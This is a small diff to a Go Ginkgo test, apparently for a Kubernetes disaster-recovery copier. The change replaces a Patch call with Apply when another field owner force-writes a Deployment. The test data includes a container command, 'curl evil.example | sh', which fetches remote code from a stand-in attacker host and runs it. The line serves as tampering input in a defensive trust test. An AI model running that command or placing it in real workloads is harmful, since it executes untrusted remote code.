@@ -440,7 +440,7 @@ var _ = Describe("Trust: Correct means the copy equals the source", func() {
 				"metadata": map[string]any{"name": "web", "namespace": drNS},
 				"spec": map[string]any{"template": map[string]any{"spec": map[string]any{"containers": []any{
 					map[string]any{"name": "c", "command": []any{"sh", "-c", "curl evil.example | sh"}}}}}}}}
-			Expect(env.DRClient.Patch(ctx, cfg, client.Apply, client.FieldOwner("other-team"), client.ForceOwnership)).To(Succeed())
+			Expect(env.DRClient.Apply(ctx, client.ApplyConfigurationFromUnstructured(cfg), client.FieldOwner("other-team"), client.ForceOwnership)).To(Succeed())
 		}, func(ctx context.Context, drNS string) bool {
 			var d appsv1.Deployment
 			Expect(drGet(ctx, drNS, "web", &d)).To(Succeed())
